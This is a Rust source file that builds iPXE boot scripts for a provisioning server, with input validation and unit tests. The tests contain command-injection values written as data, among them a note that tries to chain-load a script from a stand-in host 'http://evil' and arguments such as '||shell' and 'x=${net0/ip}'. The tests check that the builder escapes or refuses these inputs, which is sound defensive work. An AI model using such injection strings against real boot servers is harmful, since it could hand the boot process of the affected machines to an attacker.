//! The iPXE script a machine boots (`GET /boot/MAC.ipxe`), as a pure function of what the server decided: which
//! machine, how it boots, which image's files, and the kernel arguments in their order.

use herd_inventory::Mac;

use crate::machines::BootMode;

/// What goes into one machine's script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script<'a> {
    /// The machine.
    pub machine: &'a str,
    /// The NIC it booted from.
    pub mac: Mac,
    /// This boot's token (the config fetch must present it).
    pub token: &'a str,
    /// Install, or boot the installed slot.
    pub mode: BootMode,
    /// Base URL of the provisioner's HTTP server (`http://10.0.0.2`).
    pub base: &'a str,
    /// Base URL of the asset server (`http://10.0.0.2:8080`).
    pub assets_base: &'a str,
    /// Where the kernel and initramfs are under `/assets/` (`""`: the served image; `images/HASH/`: a kept one).
    pub files: &'a str,
    /// Said in the script's comment line after the mode (`, slot b: herd-os 2`).
    pub note: &'a str,
    /// The image's command line (console, `ro`, `herd.verity.roothash=`), then the role's and the machine's
    /// `kernel_args`, in that order.
    pub args: &'a [String],
}

/// A value the script builder will not write into a script.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "{what} {value:?} cannot go into an iPXE script (one word of printable characters without quotes, `$`, `|`, `&`, `;`, `#` or `\\`)"
)]
pub struct ScriptError {
    /// Which value (`kernel argument`, `base URL`).
    pub what: &'static str,
    /// The value.
    pub value: String,
}

/// Refuses a value that is not one plain word: iPXE expands `${...}`, runs `||` and `&&`, and a newline or space
/// would start another command or argument.
fn word<'a>(what: &'static str, value: &'a str) -> Result<&'a str, ScriptError> {
    if herd_inventory::KernelArg::is_valid(value) {
        Ok(value)
    } else {
        Err(ScriptError { what, value: value.to_owned() })
    }
}

/// A comment's text with everything but plain characters as `?`: a machine-reported image name cannot end the
/// comment line and start a command.
fn comment(text: &str) -> String {
    text.chars().map(|c| if c.is_ascii_alphanumeric() || " ._+~:,()/-".contains(c) { c } else { '?' }).collect()
}

/// The script: the kernel with herd's arguments first (so node-init finds the provisioner, the machine, the MAC,
/// the token and the mode), then [`Script::args`]; the initramfs; and on failure a retry of the same script after
/// 10 s. Every value it did not produce itself is checked ([`ScriptError`]) or, in the comment, escaped.
pub fn script(s: &Script<'_>) -> Result<String, ScriptError> {
    word("machine name", s.machine)?;
    word("token", s.token)?;
    word("base URL", s.base)?;
    word("asset URL", s.assets_base)?;
    if !s.files.is_empty() {
        word("boot file directory", s.files)?;
    }
    for a in s.args {
        word("kernel argument", a)?;
    }
    let mode = match s.mode {
        BootMode::Install => "install",
        BootMode::Local => "local",
    };
    let mut args = vec![
        "initrd=initramfs".to_owned(),
        format!("herd.provisioner={}", s.base),
        format!("herd.machine={}", s.machine),
        format!("herd.mac={}", s.mac),
        format!("herd.token={}", s.token),
        format!("herd.mode={mode}"),
    ];
    args.extend(s.args.iter().cloned());
    let dashed = s.mac.to_string().replace(':', "-");
    Ok(format!(
        "#!ipxe\n# herd: {machine} ({mode_name:?}{note})\nkernel {assets}/assets/{files}vmlinuz {args}\n\
         initrd {assets}/assets/{files}initramfs\nboot || goto failed\n:failed\necho herd: boot failed; retrying in \
         10 s\nsleep 10\nchain {base}/boot/{dashed}.ipxe\n",
        machine = s.machine,
        mode_name = s.mode,
        note = comment(s.note),
        assets = s.assets_base,
        files = s.files,
        base = s.base,
        args = args.join(" "),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn input<'a>(mode: BootMode, files: &'a str, args: &'a [String]) -> Script<'a> {
        Script {
            machine: "r01-m01",
            mac: "52:54:00:00:00:01".parse().unwrap(),
            token: "0123abcd",
            mode,
            base: "http://10.0.0.2",
            assets_base: "http://10.0.0.2:8080",
            files,
            note: "",
            args,
        }
    }

    #[test]
    fn an_install_boots_the_served_image_with_herds_arguments_first() {
        let args = ["console=ttyS0".to_owned(), "herd.verity.roothash=aa".to_owned(), "quiet".to_owned()];
        let text = script(&input(BootMode::Install, "", &args)).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "#!ipxe");
        assert_eq!(lines[1], "# herd: r01-m01 (Install)");
        assert_eq!(
            lines[2],
            "kernel http://10.0.0.2:8080/assets/vmlinuz initrd=initramfs herd.provisioner=http://10.0.0.2 \
             herd.machine=r01-m01 herd.mac=52:54:00:00:00:01 herd.token=0123abcd herd.mode=install console=ttyS0 \
             herd.verity.roothash=aa quiet"
        );
        assert_eq!(lines[3], "initrd http://10.0.0.2:8080/assets/initramfs");
        // A failed boot retries the same script, by the NIC's dashed MAC.
        assert_eq!(lines.last(), Some(&"chain http://10.0.0.2/boot/52-54-00-00-00-01.ipxe"));
        assert!(text.contains("boot || goto failed\n:failed\n"));
    }

    #[test]
    fn a_local_boot_of_a_kept_image_takes_its_files_and_says_which_slot() {
        let mut i = input(BootMode::Local, "images/bb/", &[]);
        i.note = ", slot b: herd-os 2";
        let text = script(&i).unwrap();
        assert!(text.contains("# herd: r01-m01 (Local, slot b: herd-os 2)\n"), "{text}");
        assert!(text.contains("kernel http://10.0.0.2:8080/assets/images/bb/vmlinuz "), "{text}");
        assert!(text.contains(" herd.mode=local\n"), "nothing after herd's arguments: {text}");
        assert!(text.contains("initrd http://10.0.0.2:8080/assets/images/bb/initramfs\n"), "{text}");
    }

    #[test]
    fn a_hostile_image_name_stays_inside_the_comment_and_a_hostile_value_is_refused() {
        let mut i = input(BootMode::Local, "", &[]);
        i.note = ", slot a: x\nchain http://evil/x.ipxe\n#";
        let text = script(&i).unwrap();
        assert!(text.contains("# herd: r01-m01 (Local, slot a: x?chain http://evil/x.ipxe??)\n"), "{text}");
        assert_eq!(text.lines().filter(|l| l.starts_with("chain ")).count(), 1, "only herd's own retry: {text}");
        for bad in ["quiet\nshell", "a b", "x=${net0/ip}", "||", "a&&b", "\"q\"", ""] {
            let args = [bad.to_owned()];
            let e = script(&input(BootMode::Install, "", &args)).unwrap_err();
            assert_eq!(e.what, "kernel argument", "{bad:?}");
        }
        let mut i = input(BootMode::Install, "", &[]);
        i.base = "http://10.0.0.2 ||shell";
        assert_eq!(script(&i).unwrap_err().what, "base URL");
    }
}
